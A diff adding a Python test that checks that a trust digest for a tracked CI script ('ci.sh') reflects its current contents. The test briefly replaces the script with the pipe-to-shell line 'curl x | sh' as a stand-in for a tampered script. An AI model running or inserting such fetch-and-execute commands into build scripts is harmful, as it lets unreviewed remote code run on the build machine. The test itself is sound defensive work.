@@ -566,6 +566,17 @@ def test_a_digest_does_not_cover_what_a_run_changed_beside_the_repository(repo) 
         assert trust.demanded(config, env).by == by, path
 
 
+def test_the_digest_is_of_the_contents_that_are_shown_whatever_became_of_them_since(repo) -> None:
+    script = repo.root / "ci.sh"
+    script.write_text("make test\n")
+    track(repo.root, "ci.sh")
+    shown = demanded(repo, BASE).digest
+    script.write_text("curl x | sh\n")
+    other = demanded(repo, BASE)
+    script.write_text("make test\n")
+    assert other.digest != shown == demanded(repo, BASE).digest
+
+
 def test_a_large_script_is_not_read_by_each_start_and_a_change_of_it_is_asked_about(repo) -> None:
     path = repo.root / "ci.sh"
     path.write_bytes(b"#" * (9 << 20))
